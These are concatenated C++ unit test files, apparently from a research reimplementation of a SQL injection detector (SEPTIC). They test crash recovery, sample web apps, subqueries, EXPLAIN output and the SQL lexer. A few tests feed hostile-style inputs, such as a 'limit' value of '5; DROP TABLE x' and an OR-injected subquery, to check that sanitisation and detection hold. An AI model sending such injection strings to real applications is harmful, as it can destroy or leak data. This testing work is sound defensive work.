      db.execute_admin("INSERT INTO kv VALUES (" + std::to_string(id) +
                       ", 'v')");
      write_ack(acks_path, id);
    }

    fp::arm(site, 1);

    for (int i = 0; i < 60; ++i) {
      int id = 100 + i;
      db.execute_admin("INSERT INTO kv VALUES (" + std::to_string(id) +
                       ", 'v')");
      write_ack(acks_path, id);
      if (i % 5 == 4) {
        db.execute_admin("CREATE TABLE side" + std::to_string(i) +
                         " (id INT PRIMARY KEY)");
      }
      if (i % 9 == 8) {
        // Index DDL rides the same kDdl WAL path; unique names keep the
        // loop restartable across checkpoints.
        db.execute_admin("CREATE INDEX kvi" + std::to_string(i) +
                         " ON kv (v)");
      }
      if (i % 7 == 6) {
        db.checkpoint_now();
      }
    }
    std::_Exit(kExitNeverFired);
  } catch (...) {
    std::_Exit(kExitChildError);
  }
}

// Fork, run `child` in the forked process, assert it exited with
// kExitCrash. Returns only in the parent.
template <typename Fn>
void run_child_expect_crash(Fn child) {
  ::pid_t pid = ::fork();
  ASSERT_GE(pid, 0) << "fork failed";
  if (pid == 0) {
    child();  // [[noreturn]]
    std::_Exit(kExitChildError);
  }
  int status = 0;
  ASSERT_EQ(::waitpid(pid, &status, 0), pid);
  ASSERT_TRUE(WIFEXITED(status)) << "child killed by signal "
                                 << (WIFSIGNALED(status) ? WTERMSIG(status)
                                                         : 0);
  ASSERT_EQ(WEXITSTATUS(status), kExitCrash)
      << "child exited " << WEXITSTATUS(status)
      << " (3 = armed site never fired, 4 = child-side exception)";
}

// Parent-side invariant check after the child crashed.
void verify_recovered(const std::string& dir, const std::string& acks_path) {
  std::vector<int> acked = read_acks(acks_path);
  ASSERT_FALSE(acked.empty()) << "child died before any ack";
  int64_t count_after_insert = 0;
  {
    Database db(dir_opts(dir));  // recovery must succeed — invariant 2
    // Invariant 4: generation tags agree.
    EXPECT_EQ(db.ddl_version(), db.recovery_report().ddl_version);
    // Invariant 1: every acked commit survived.
    for (int id : acked) {
      auto rs = db.execute_admin("SELECT v FROM kv WHERE id = " +
                                 std::to_string(id));
      ASSERT_EQ(rs.rows.size(), 1u) << "acked id " << id << " lost";
      EXPECT_EQ(rs.rows[0][0].as_string(), "v");
    }
    // Invariant 3: the engine is writable after recovery.
    db.execute_admin("INSERT INTO kv VALUES (99999, 'post-recovery')");
    count_after_insert = db.execute_admin("SELECT COUNT(*) FROM kv")
                             .rows[0][0]
                             .as_int();
    EXPECT_GE(count_after_insert, static_cast<int64_t>(acked.size()) + 1);
  }
  // Invariant 5: recovery is idempotent — reopen sees the same state,
  // including the parent's own post-recovery write.
  Database db(dir_opts(dir));
  EXPECT_EQ(db.execute_admin("SELECT COUNT(*) FROM kv").rows[0][0].as_int(),
            count_after_insert);
  EXPECT_EQ(db.execute_admin("SELECT v FROM kv WHERE id = 99999")
                .rows.size(),
            1u);
}

class RecoveryCrashTest : public ::testing::Test {
 protected:
  void SetUp() override {
    if (!fp::compiled_in()) {
      GTEST_SKIP() << "failpoints compiled out of this build";
    }
  }
  void TearDown() override {
    fp::disarm_all();
    for (const auto& d : dirs_) {
      std::filesystem::remove_all(d);
      std::filesystem::remove(d + ".acks");
    }
  }
  std::string make_dir(const char* tag) {
    dirs_.push_back(fresh_dir(tag));
    return dirs_.back();
  }
  std::vector<std::string> dirs_;
};

// ---- the matrix: kill at every site the write path can reach -----------

TEST_F(RecoveryCrashTest, KillAtEveryWritePathCrashpointRecovers) {
  const char* kSites[] = {
      "wal.append.crash_before",
      "wal.append.crash_torn",
      "wal.append.crash_after",
      "wal.sync.crash_before",
      "wal.sync.crash_after",
      "wal.ddl.crash_before",
      "wal.ddl.crash_after",
      "wal.rotate.crash_before",
      "wal.rotate.crash_mid",
      "wal.rotate.crash_after",
      "checkpoint.crash_begin",
      "checkpoint.crash_torn_pages",
      "checkpoint.crash_before_fsync",
      "checkpoint.crash_before_rename",
      "checkpoint.crash_after_rename",
      "checkpoint.crash_end",
  };
  for (const char* site : kSites) {
    SCOPED_TRACE(site);
    std::string dir = make_dir("matrix");
    std::string acks = dir + ".acks";
    run_child_expect_crash(
        [&] { run_workload_child(dir, acks, site); });
    if (HasFatalFailure()) return;
    verify_recovered(dir, acks);
  }
}

// ---- crash during recovery itself ---------------------------------------

TEST_F(RecoveryCrashTest, KillMidReplayThenRecoverCleanly) {
  std::string dir = make_dir("midreplay");
  run_child_expect_crash([&] {
    try {
      {
        Database db(dir_opts(dir));
        db.execute_admin("CREATE TABLE kv (id INT PRIMARY KEY, v TEXT)");
        for (int id = 1; id <= 5; ++id) {
          db.execute_admin("INSERT INTO kv VALUES (" + std::to_string(id) +
                           ", 'v')");
        }
      }
      // Second boot replays 6 records; die on the first.
      fp::arm("recovery.crash_mid_replay", 1);
      Database again(dir_opts(dir));
      std::_Exit(kExitNeverFired);
    } catch (...) {
      std::_Exit(kExitChildError);
    }
  });
  if (HasFatalFailure()) return;
  // Recovery read, never wrote: the aborted attempt must not have
  // perturbed anything.
  Database db(dir_opts(dir));
  EXPECT_EQ(db.execute_admin("SELECT COUNT(*) FROM kv").rows[0][0].as_int(),
            5);
  db.execute_admin("INSERT INTO kv VALUES (6, 'v')");
}

TEST_F(RecoveryCrashTest, KillBeforeWalReopenThenRecoverCleanly) {
  std::string dir = make_dir("beforeopen");
  run_child_expect_crash([&] {
    try {
      {
        Database db(dir_opts(dir));
        db.execute_admin("CREATE TABLE kv (id INT PRIMARY KEY)");
        db.execute_admin("INSERT INTO kv VALUES (1)");
      }
      fp::arm("recovery.crash_before_wal_open", 1);
      Database again(dir_opts(dir));
      std::_Exit(kExitNeverFired);
    } catch (...) {
      std::_Exit(kExitChildError);
    }
  });
  if (HasFatalFailure()) return;
  Database db(dir_opts(dir));
  EXPECT_EQ(db.execute_admin("SELECT COUNT(*) FROM kv").rows[0][0].as_int(),
            1);
}

// ---- crash mid-transaction: no partial effects, DDL undone --------------

// ---- index DDL durability and rebuild-on-recovery (PR 10) ---------------

TEST_F(RecoveryCrashTest, CrashBeforeCreateIndexHitsWalLosesOnlyTheIndex) {
  std::string dir = make_dir("ixddlbefore");
  run_child_expect_crash([&] {
    try {
      Database db(dir_opts(dir));
      db.execute_admin("CREATE TABLE kv (id INT PRIMARY KEY, v TEXT)");
      for (int id = 1; id <= 5; ++id) {
        db.execute_admin("INSERT INTO kv VALUES (" + std::to_string(id) +
                         ", 'v" + std::to_string(id) + "')");
      }
      // Die inside log_ddl before the kDdl record reaches the file: the
      // index must vanish on recovery, the acked rows must not.
      fp::arm("wal.ddl.crash_before", 1);
      db.execute_admin("CREATE INDEX kv_v ON kv (v)");
      std::_Exit(kExitNeverFired);
    } catch (...) {
      std::_Exit(kExitChildError);
    }
  });
  if (HasFatalFailure()) return;
  Database db(dir_opts(dir));
  EXPECT_EQ(db.execute_admin("SELECT COUNT(*) FROM kv").rows[0][0].as_int(),
            5);
  // The record never hit the log, so re-creating the index must succeed —
  // a surviving ghost index would make this a duplicate-name error.
  db.execute_admin("CREATE INDEX kv_v ON kv (v)");
  auto ex = db.execute_admin("EXPLAIN SELECT id FROM kv WHERE v = 'v3'");
  ASSERT_EQ(ex.rows.size(), 1u);
  EXPECT_EQ(ex.rows[0][1].as_string(), "ref (secondary index)");
}

TEST_F(RecoveryCrashTest, CrashAfterCreateIndexHitsWalKeepsTheIndex) {
  std::string dir = make_dir("ixddlafter");
  run_child_expect_crash([&] {
    try {
      Database db(dir_opts(dir));
      db.execute_admin("CREATE TABLE kv (id INT PRIMARY KEY, v TEXT)");
      for (int id = 1; id <= 5; ++id) {
        db.execute_admin("INSERT INTO kv VALUES (" + std::to_string(id) +
                         ", 'v" + std::to_string(id) + "')");
      }
      // Die right after the kDdl record is appended: the index is durable
      // and recovery must rebuild it.
      fp::arm("wal.ddl.crash_after", 1);
      db.execute_admin("CREATE INDEX kv_v ON kv (v)");
      std::_Exit(kExitNeverFired);
    } catch (...) {
      std::_Exit(kExitChildError);
    }
  });
  if (HasFatalFailure()) return;
  Database db(dir_opts(dir));
  EXPECT_THROW(db.execute_admin("CREATE INDEX kv_v ON kv (v)"),
               engine::DbError);  // already exists: recovery rebuilt it
  auto ex = db.execute_admin("EXPLAIN SELECT id FROM kv WHERE v = 'v3'");
  ASSERT_EQ(ex.rows.size(), 1u);
  EXPECT_EQ(ex.rows[0][1].as_string(), "ref (secondary index)");
  auto rs = db.execute_admin("SELECT COUNT(*) FROM kv WHERE v = 'v3'");
  EXPECT_EQ(rs.rows[0][0].as_int(), 1);
}

TEST_F(RecoveryCrashTest, KillDuringIndexRebuildOnRecoveryThenRecover) {
  std::string dir = make_dir("ixrebuild");
  run_child_expect_crash([&] {
    try {
      {
        Database db(dir_opts(dir));
        db.execute_admin("CREATE TABLE kv (id INT PRIMARY KEY, v TEXT)");
        db.execute_admin("CREATE INDEX kv_v ON kv (v)");
        for (int id = 1; id <= 5; ++id) {
          db.execute_admin("INSERT INTO kv VALUES (" + std::to_string(id) +
                           ", 'x" + std::to_string(id) + "')");
        }
        db.checkpoint_now();  // checkpoint image carries the index def
      }
      // Second boot rebuilds kv_v while decoding the checkpoint; die there.
      fp::arm("recovery.crash_index_rebuild", 1);
      Database again(dir_opts(dir));
      std::_Exit(kExitNeverFired);
    } catch (...) {
      std::_Exit(kExitChildError);
    }
  });
  if (HasFatalFailure()) return;
  // The aborted rebuild read, never wrote: a third boot rebuilds the index
  // from the same checkpoint and serves range reads through it.
  Database db(dir_opts(dir));
  EXPECT_EQ(db.execute_admin("SELECT COUNT(*) FROM kv").rows[0][0].as_int(),
            5);
  auto ex = db.execute_admin(
      "EXPLAIN SELECT id FROM kv WHERE v >= 'x2' AND v <= 'x4'");
  ASSERT_EQ(ex.rows.size(), 1u);
  EXPECT_EQ(ex.rows[0][1].as_string(), "range (secondary index)");
  auto rs = db.execute_admin(
      "SELECT id FROM kv WHERE v >= 'x2' AND v <= 'x4' ORDER BY id");
  ASSERT_EQ(rs.rows.size(), 3u);
  db.execute_admin("INSERT INTO kv VALUES (6, 'x6')");
}

TEST_F(RecoveryCrashTest, CrashDuringCommitDiscardsTxnAndUndoesItsDdl) {
  std::string dir = make_dir("txncommit");
  run_child_expect_crash([&] {
    try {
      Database db(dir_opts(dir));
      Session s("crash");
      db.execute_admin("CREATE TABLE keep (id INT PRIMARY KEY)");
      for (int id = 1; id <= 3; ++id) {
        db.execute_admin("INSERT INTO keep VALUES (" + std::to_string(id) +
                         ")");
      }
      db.execute(s, "BEGIN");
      db.execute(s, "INSERT INTO keep VALUES (100)");
      db.execute(s, "CREATE TABLE temp_t (id INT PRIMARY KEY)");
      // Die inside COMMIT, before its kCommit record hits the file: the
      // transaction must vanish wholesale — buffered row AND its DDL.
      fp::arm("wal.append.crash_before", 1);
      db.execute(s, "COMMIT");
      std::_Exit(kExitNeverFired);
    } catch (...) {
      std::_Exit(kExitChildError);
    }
  });
  if (HasFatalFailure()) return;
  Database db(dir_opts(dir));
  EXPECT_EQ(db.recovery_report().txns_discarded, 1u);
  EXPECT_EQ(db.catalog().find("temp_t"), nullptr);
  auto rs = db.execute_admin("SELECT id FROM keep ORDER BY id");
  ASSERT_EQ(rs.rows.size(), 3u);  // 1..3; the buffered 100 is gone
  EXPECT_EQ(rs.rows[2][0].as_int(), 3);
}

}  // namespace
}  // namespace septic

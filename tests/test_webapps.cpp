// Functional tests for the five workload applications: schemas install,
// every route answers, workloads replay cleanly, and the recorded workload
// sizes match the paper's (12 / 14 / 26 requests).
#include <gtest/gtest.h>

#include "engine/database.h"
#include "web/apps/addressbook.h"
#include "web/apps/refbase.h"
#include "web/apps/tickets.h"
#include "web/apps/waspmon.h"
#include "web/apps/zerocms.h"
#include "web/stack.h"

namespace septic::web {
namespace {

template <typename AppT>
struct Fixture {
  engine::Database db;
  AppT app;
  std::unique_ptr<WebStack> stack;

  Fixture() {
    app.install(db);
    stack = std::make_unique<WebStack>(app, db);
  }
  Response handle(const Request& r) { return stack->handle(r); }
};

TEST(TicketsApp, LookupReturnsSeededTicket) {
  Fixture<apps::TicketsApp> f;
  Response r = f.handle(Request::get(
      "/ticket", {{"reservID", "ID34FG"}, {"creditCard", "1234"}}));
  ASSERT_TRUE(r.ok());
  EXPECT_NE(r.body.find("Alice Traveler"), std::string::npos);
}

TEST(TicketsApp, WrongCreditCardFindsNothing) {
  Fixture<apps::TicketsApp> f;
  Response r = f.handle(Request::get(
      "/ticket", {{"reservID", "ID34FG"}, {"creditCard", "9999"}}));
  ASSERT_TRUE(r.ok());
  EXPECT_NE(r.body.find("no ticket found"), std::string::npos);
}

TEST(TicketsApp, ProfileRoundTripSecondOrderPath) {
  Fixture<apps::TicketsApp> f;
  Response save = f.handle(Request::post(
      "/profile", {{"username", "bob"}, {"fullname", "Bob F"},
                   {"defaultReserv", "QX81Zx"}, {"creditCard", "5678"}}));
  ASSERT_TRUE(save.ok());
  Response r = f.handle(Request::get("/my-ticket", {{"username", "bob"}}));
  ASSERT_TRUE(r.ok());
  EXPECT_NE(r.body.find("Bob Flyer"), std::string::npos);
}

TEST(TicketsApp, EscapedQuoteInProfileIsStoredVerbatim) {
  Fixture<apps::TicketsApp> f;
  Response save = f.handle(Request::post(
      "/profile", {{"username", "obrien"}, {"fullname", "Conan O'Brien"},
                   {"defaultReserv", "KJ92MN"}, {"creditCard", "9012"}}));
  ASSERT_TRUE(save.ok());
  auto rs = f.db.execute_admin(
      "SELECT fullname FROM profiles WHERE username = 'obrien'");
  ASSERT_EQ(rs.rows.size(), 1u);
  EXPECT_EQ(rs.rows[0][0].as_string(), "Conan O'Brien");
}

TEST(TicketsApp, UnknownRouteIs404) {
  Fixture<apps::TicketsApp> f;
  EXPECT_EQ(f.handle(Request::get("/nope")).status, 404);
}

TEST(TicketsApp, WorkloadRepliesCleanly) {
  Fixture<apps::TicketsApp> f;
  for (const auto& r : f.app.workload()) {
    EXPECT_TRUE(f.handle(r).ok()) << r.to_string();
  }
}

TEST(WaspMonApp, DeviceLifecycle) {
  Fixture<apps::WaspMonApp> f;
  Response add = f.handle(Request::post(
      "/device/add", {{"name", "tv"}, {"type", "media"},
                      {"location", "livingroom"},
                      {"api_url", "http://device.local/tv"}}));
  ASSERT_TRUE(add.ok());
  Response search = f.handle(Request::get("/device/search", {{"name", "tv"}}));
  EXPECT_NE(search.body.find("tv"), std::string::npos);
  Response reading = f.handle(Request::post(
      "/reading/add", {{"device_id", "4"}, {"watts", "55.5"}}));
  ASSERT_TRUE(reading.ok());
  Response hist = f.handle(Request::get(
      "/device/history", {{"device_id", "4"}, {"limit", "10"}}));
  EXPECT_NE(hist.body.find("55.5"), std::string::npos);
}

TEST(WaspMonApp, DevicesAggregateView) {
  Fixture<apps::WaspMonApp> f;
  Response r = f.handle(Request::get("/devices"));
  ASSERT_TRUE(r.ok());
  EXPECT_NE(r.body.find("fridge"), std::string::npos);
  EXPECT_NE(r.body.find("2"), std::string::npos);  // fridge has 2 samples
}

TEST(WaspMonApp, SecondOrderNotePath) {
  Fixture<apps::WaspMonApp> f;
  f.handle(Request::post("/user/register",
                         {{"username", "kim"}, {"fullname", "Kim"},
                          {"note", "heatpump"}}));
  Response r = f.handle(Request::get("/device/by-user", {{"username", "kim"}}));
  ASSERT_TRUE(r.ok());
  EXPECT_NE(r.body.find("heatpump"), std::string::npos);
}

TEST(WaspMonApp, LimitIsIntvalSanitized) {
  Fixture<apps::WaspMonApp> f;
  // A malicious limit collapses to its numeric prefix — intval is safe.
  Response r = f.handle(Request::get(
      "/device/history", {{"device_id", "1"}, {"limit", "5; DROP TABLE x"}}));
  EXPECT_TRUE(r.ok());
}

TEST(WaspMonApp, WorkloadRepliesCleanly) {
  Fixture<apps::WaspMonApp> f;
  for (const auto& r : f.app.workload()) {
    EXPECT_TRUE(f.handle(r).ok()) << r.to_string();
  }
}

TEST(AddressBookApp, WorkloadHasTwelveRequests) {
  apps::AddressBookApp app;
  EXPECT_EQ(app.workload().size(), 12u);  // paper Section II-F
}

TEST(AddressBookApp, CrudFlow) {
  Fixture<apps::AddressBookApp> f;
  Response add = f.handle(Request::post(
      "/contact/add",
      {{"firstname", "Gil"}, {"lastname", "Homem"}, {"email", "g@x.pt"},
       {"phone", "+351"}, {"address", "Sintra"}, {"group_id", "1"}}));
  ASSERT_TRUE(add.ok());
  Response edit =
      f.handle(Request::post("/contact/edit", {{"id", "5"}, {"phone", "+9"}}));
  EXPECT_NE(edit.body.find("1 updated"), std::string::npos);
  Response del = f.handle(Request::post("/contact/delete", {{"id", "5"}}));
  EXPECT_NE(del.body.find("1 deleted"), std::string::npos);
}

TEST(AddressBookApp, SearchAndGroups) {
  Fixture<apps::AddressBookApp> f;
  Response search = f.handle(Request::get("/search", {{"q", "silva"}}));
  EXPECT_NE(search.body.find("Ana"), std::string::npos);
  Response groups = f.handle(Request::get("/groups"));
  EXPECT_NE(groups.body.find("family"), std::string::npos);
  Response group = f.handle(Request::get("/group", {{"id", "2"}}));
  EXPECT_NE(group.body.find("Bruno"), std::string::npos);
}

TEST(AddressBookApp, WorkloadRepliesCleanly) {
  Fixture<apps::AddressBookApp> f;
  for (const auto& r : f.app.workload()) {
    EXPECT_TRUE(f.handle(r).ok()) << r.to_string();
  }
}

TEST(RefbaseApp, WorkloadHasFourteenRequests) {
  apps::RefbaseApp app;
  EXPECT_EQ(app.workload().size(), 14u);  // paper Section II-F
}

TEST(RefbaseApp, SearchCiteExportFlow) {
  Fixture<apps::RefbaseApp> f;
  Response search = f.handle(
      Request::get("/search", {{"author", "Medeiros"}, {"year", "2016"}}));
  EXPECT_NE(search.body.find("Hacking the DBMS"), std::string::npos);
  Response cite = f.handle(Request::get("/cite", {{"id", "1"}}));
  EXPECT_NE(cite.body.find("1 cited"), std::string::npos);
  auto rs = f.db.execute_admin("SELECT citations FROM refs WHERE id = 1");
  EXPECT_EQ(rs.rows[0][0].as_int(), 43);
  Response kw = f.handle(Request::get("/by-keyword", {{"word", "dbms"}}));
  EXPECT_NE(kw.body.find("Medeiros"), std::string::npos);
}

TEST(RefbaseApp, WorkloadRepliesCleanly) {
  Fixture<apps::RefbaseApp> f;
  for (const auto& r : f.app.workload()) {
    EXPECT_TRUE(f.handle(r).ok()) << r.to_string();
  }
}

TEST(ZeroCmsApp, WorkloadHasTwentySixRequests) {
  apps::ZeroCmsApp app;
  EXPECT_EQ(app.workload().size(), 26u);  // paper Section II-F
}

TEST(ZeroCmsApp, ArticleViewBumpsCounter) {
  Fixture<apps::ZeroCmsApp> f;
  f.handle(Request::get("/article", {{"id", "1"}}));
  f.handle(Request::get("/article", {{"id", "1"}}));
  auto rs = f.db.execute_admin("SELECT views FROM articles WHERE id = 1");
  EXPECT_EQ(rs.rows[0][0].as_int(), 2);
}

TEST(ZeroCmsApp, LoginChecksMd5Hash) {
  Fixture<apps::ZeroCmsApp> f;
  // Seeded passhash 'x1' never equals MD5('pw'): login fails cleanly.
  Response r = f.handle(
      Request::post("/login", {{"username", "editor"}, {"password", "pw"}}));
  ASSERT_TRUE(r.ok());
  EXPECT_NE(r.body.find("login failed"), std::string::npos);
}

TEST(ZeroCmsApp, StaticObjectsSkipTheDatabase) {
  Fixture<apps::ZeroCmsApp> f;
  uint64_t before = f.db.executed_count();
  Response r = f.handle(Request::get("/static/style.css"));
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(f.db.executed_count(), before);
}

TEST(ZeroCmsApp, CommentAddAndDelete) {
  Fixture<apps::ZeroCmsApp> f;
  f.handle(Request::post("/comment/add",
                         {{"article_id", "1"}, {"author", "x"},
                          {"body", "hello"}}));
  Response del = f.handle(Request::post("/comment/delete", {{"id", "3"}}));
  EXPECT_NE(del.body.find("1 deleted"), std::string::npos);
}

TEST(ZeroCmsApp, WorkloadRepliesCleanly) {
  Fixture<apps::ZeroCmsApp> f;
  for (const auto& r : f.app.workload()) {
    EXPECT_TRUE(f.handle(r).ok()) << r.to_string();
  }
}

TEST(WebStack, ProxyBlockedSurfacesAs403) {
  Fixture<apps::TicketsApp> f;
  f.stack->config().proxy_enabled = true;
  f.stack->proxy().set_mode(QueryFirewall::Mode::kProtect);  // learned nothing
  Response r = f.handle(Request::get(
      "/ticket", {{"reservID", "ID34FG"}, {"creditCard", "1234"}}));
  EXPECT_EQ(r.status, 403);
  EXPECT_EQ(r.blocked_by, "proxy");
}

TEST(WebStack, SqlErrorSurfacesAs500) {
  Fixture<apps::TicketsApp> f;
  // A payload that breaks SQL syntax once embedded (unterminated quote via
  // backslash eating the closing quote).
  Response r = f.handle(Request::get(
      "/ticket", {{"reservID", "x"}, {"creditCard", ""}}));
  // creditCard empty -> handler substitutes 0; still fine. Use a really
  // broken one: backslash at end escapes the closing quote.
  Response broken = f.handle(Request::get(
      "/ticket", {{"reservID", "trailing\\"}, {"creditCard", "0"}}));
  (void)r;
  EXPECT_EQ(broken.status, 200);  // escaped backslash stays harmless
}

}  // namespace
}  // namespace septic::web

// IN-subqueries (uncorrelated, materialized) and EXPLAIN access-path
// reporting.
#include <gtest/gtest.h>

#include <memory>

#include "engine/database.h"
#include "engine/error.h"
#include "septic/septic.h"

namespace septic::engine {
namespace {

using sql::Value;

class SubqueryTest : public ::testing::Test {
 protected:
  void SetUp() override {
    db.execute_admin(
        "CREATE TABLE orders (id INT PRIMARY KEY AUTO_INCREMENT, "
        "customer TEXT, total INT)");
    db.execute_admin(
        "CREATE TABLE vips (id INT PRIMARY KEY AUTO_INCREMENT, name TEXT)");
    db.execute_admin(
        "INSERT INTO orders (customer, total) VALUES ('ann', 10), "
        "('bob', 20), ('cyd', 30), ('ann', 40)");
    db.execute_admin("INSERT INTO vips (name) VALUES ('ann'), ('cyd')");
  }
  ResultSet run(std::string_view q) { return db.execute(session, q); }
  Database db;
  Session session;
};

TEST_F(SubqueryTest, InSubqueryFilters) {
  auto rs = run(
      "SELECT total FROM orders WHERE customer IN (SELECT name FROM vips) "
      "ORDER BY total");
  ASSERT_EQ(rs.rows.size(), 3u);
  EXPECT_EQ(rs.rows[0][0].as_int(), 10);
  EXPECT_EQ(rs.rows[2][0].as_int(), 40);
}

TEST_F(SubqueryTest, NotInSubquery) {
  auto rs = run(
      "SELECT customer FROM orders WHERE customer NOT IN "
      "(SELECT name FROM vips)");
  ASSERT_EQ(rs.rows.size(), 1u);
  EXPECT_EQ(rs.rows[0][0].as_string(), "bob");
}

TEST_F(SubqueryTest, SubqueryWithItsOwnWhere) {
  auto rs = run(
      "SELECT COUNT(*) FROM orders WHERE customer IN "
      "(SELECT name FROM vips WHERE id = 1)");
  EXPECT_EQ(rs.rows[0][0].as_int(), 2);  // ann's two orders
}

TEST_F(SubqueryTest, EmptySubqueryMatchesNothing) {
  auto rs = run(
      "SELECT COUNT(*) FROM orders WHERE customer IN "
      "(SELECT name FROM vips WHERE id = 99)");
  EXPECT_EQ(rs.rows[0][0].as_int(), 0);
}

TEST_F(SubqueryTest, MultiColumnSubqueryRejected) {
  EXPECT_THROW(
      run("SELECT * FROM orders WHERE customer IN (SELECT id, name FROM "
          "vips)"),
      DbError);
}

TEST_F(SubqueryTest, UnknownColumnInsideSubqueryRejected) {
  try {
    run("SELECT * FROM orders WHERE customer IN (SELECT ghost FROM vips)");
    FAIL();
  } catch (const DbError& e) {
    EXPECT_EQ(e.code(), ErrorCode::kUnknownColumn);
  }
}

TEST_F(SubqueryTest, ToSqlRoundTrip) {
  const char* q =
      "SELECT total FROM orders WHERE customer IN (SELECT name FROM vips)";
  auto parsed = sql::parse(q);
  std::string printed = sql::statement_to_sql(parsed.statement);
  auto reparsed = sql::parse(printed);
  EXPECT_EQ(sql::statement_to_sql(reparsed.statement), printed);
}

TEST_F(SubqueryTest, SepticDetectsInjectedSubquery) {
  auto guard = std::make_shared<core::Septic>();
  db.set_interceptor(guard);
  guard->set_mode(core::Mode::kTraining);
  db.execute(session, "SELECT total FROM orders WHERE customer = 'ann'");
  guard->set_mode(core::Mode::kPrevention);
  // Injecting a subquery into the WHERE changes the item stack: blocked.
  EXPECT_THROW(
      db.execute(session,
                 "SELECT total FROM orders WHERE customer = 'ann' OR "
                 "customer IN (SELECT name FROM vips)"),
      DbError);
  db.set_interceptor(nullptr);
}

TEST_F(SubqueryTest, PreparedParamInsideSubquery) {
  auto rs = db.execute_prepared(
      session,
      "SELECT COUNT(*) FROM orders WHERE customer IN "
      "(SELECT name FROM vips WHERE id = ?)",
      {Value(int64_t{2})});
  EXPECT_EQ(rs.rows[0][0].as_int(), 1);  // cyd's single order
}

class ExplainTest : public ::testing::Test {
 protected:
  void SetUp() override {
    db.execute_admin(
        "CREATE TABLE ex (id INT PRIMARY KEY AUTO_INCREMENT, tag TEXT, "
        "v INT)");
    db.execute_admin("INSERT INTO ex (tag, v) VALUES ('a', 1), ('b', 2)");
  }
  std::string plan(std::string_view q) {
    auto rs = db.execute(session, q);
    return rs.to_text();
  }
  Database db;
  Session session;
};

TEST_F(ExplainTest, ScanWithoutIndex) {
  EXPECT_NE(plan("EXPLAIN SELECT * FROM ex WHERE tag = 'a'").find("scan"),
            std::string::npos);
}

TEST_F(ExplainTest, PrimaryKeyPath) {
  EXPECT_NE(plan("EXPLAIN SELECT * FROM ex WHERE id = 1")
                .find("const (primary key)"),
            std::string::npos);
}

TEST_F(ExplainTest, SecondaryIndexPathAfterCreateIndex) {
  db.execute_admin("CREATE INDEX idx_tag ON ex (tag)");
  std::string p = plan("EXPLAIN SELECT * FROM ex WHERE tag = 'a'");
  EXPECT_NE(p.find("ref (secondary index)"), std::string::npos);
  EXPECT_NE(p.find("tag"), std::string::npos);  // the key column reported
}

TEST_F(ExplainTest, IndexPathSurvivesExtraConjuncts) {
  db.execute_admin("CREATE INDEX idx_tag ON ex (tag)");
  EXPECT_NE(plan("EXPLAIN SELECT * FROM ex WHERE tag = 'a' AND v > 0")
                .find("ref (secondary index)"),
            std::string::npos);
}

TEST_F(ExplainTest, OrForcesScan) {
  db.execute_admin("CREATE INDEX idx_tag ON ex (tag)");
  EXPECT_NE(plan("EXPLAIN SELECT * FROM ex WHERE tag = 'a' OR v = 2")
                .find("scan"),
            std::string::npos);
}

TEST_F(ExplainTest, JoinReportsBothTables) {
  db.execute_admin("CREATE TABLE ex2 (id INT, ref_id INT)");
  std::string p =
      plan("EXPLAIN SELECT * FROM ex JOIN ex2 ON ex.id = ex2.ref_id");
  EXPECT_NE(p.find("ex"), std::string::npos);
  EXPECT_NE(p.find("ex2"), std::string::npos);
  EXPECT_NE(p.find("join"), std::string::npos);
}

TEST_F(ExplainTest, TableLessSelect) {
  EXPECT_NE(plan("EXPLAIN SELECT 1").find("const"), std::string::npos);
}

TEST_F(ExplainTest, ExplainValidatesTheInnerSelect) {
  EXPECT_THROW(db.execute(session, "EXPLAIN SELECT * FROM ghost"), DbError);
}

}  // namespace
}  // namespace septic::engine

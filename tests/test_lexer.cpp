#include "sqlcore/lexer.h"

#include <gtest/gtest.h>

namespace septic::sql {
namespace {

// Tokens are views into the source buffer and the LexResult's arena, so the
// helper must hand back the whole LexResult, not just the token vector.
struct Toks {
  LexResult r;
  const Token& operator[](size_t i) const { return r.tokens[i]; }
  size_t size() const { return r.tokens.size(); }
};

Toks tokens_of(std::string_view sql) { return Toks{lex(sql)}; }

TEST(Lexer, KeywordsUppercasedIdentifiersPreserved) {
  auto toks = tokens_of("select Name from Users");
  ASSERT_GE(toks.size(), 5u);
  EXPECT_TRUE(toks[0].is_keyword("SELECT"));
  EXPECT_EQ(toks[1].type, TokenType::kIdentifier);
  EXPECT_EQ(toks[1].text, "Name");
  EXPECT_TRUE(toks[2].is_keyword("FROM"));
  EXPECT_EQ(toks[3].text, "Users");
  EXPECT_EQ(toks[4].type, TokenType::kEnd);
}

TEST(Lexer, StringSingleAndDoubleQuotes) {
  auto toks = tokens_of("'abc' \"def\"");
  EXPECT_EQ(toks[0].type, TokenType::kString);
  EXPECT_EQ(toks[0].str_value, "abc");
  EXPECT_EQ(toks[1].str_value, "def");
}

TEST(Lexer, BackslashEscapes) {
  auto toks = tokens_of(R"('a\'b\\c\nd')");
  EXPECT_EQ(toks[0].str_value, "a'b\\c\nd");
}

TEST(Lexer, DoubledQuoteEscape) {
  auto toks = tokens_of("'it''s'");
  EXPECT_EQ(toks[0].str_value, "it's");
}

TEST(Lexer, UnknownEscapeIsLiteralChar) {
  auto toks = tokens_of(R"('a\qb')");
  EXPECT_EQ(toks[0].str_value, "aqb");
}

TEST(Lexer, UnterminatedStringThrows) {
  EXPECT_THROW(lex("'never ends"), LexError);
}

TEST(Lexer, DashDashCommentSwallowsRestOfLine) {
  LexResult r = lex("SELECT 1 -- the rest ' is gone");
  ASSERT_EQ(r.comments.size(), 1u);
  EXPECT_EQ(r.comments[0].kind, Comment::Kind::kDashDash);
  // Tokens: SELECT, 1, END.
  EXPECT_EQ(r.tokens.size(), 3u);
}

TEST(Lexer, DashDashNeedsWhitespaceAfter) {
  // MySQL: "a--b" is NOT a comment (no space after --).
  auto toks = tokens_of("1--2");
  // 1, -, -, 2, END: minus minus parses as two operators.
  ASSERT_EQ(toks.size(), 5u);
  EXPECT_EQ(toks[1].text, "-");
  EXPECT_EQ(toks[2].text, "-");
}

TEST(Lexer, HashComment) {
  LexResult r = lex("SELECT 1 # comment here");
  ASSERT_EQ(r.comments.size(), 1u);
  EXPECT_EQ(r.comments[0].kind, Comment::Kind::kHash);
  EXPECT_EQ(r.comments[0].body, " comment here");
}

TEST(Lexer, BlockCommentCaptured) {
  LexResult r = lex("/* ID:app:route */ SELECT 1");
  ASSERT_EQ(r.comments.size(), 1u);
  EXPECT_EQ(r.comments[0].kind, Comment::Kind::kBlock);
  EXPECT_EQ(r.comments[0].body, " ID:app:route ");
  EXPECT_TRUE(r.tokens[0].is_keyword("SELECT"));
}

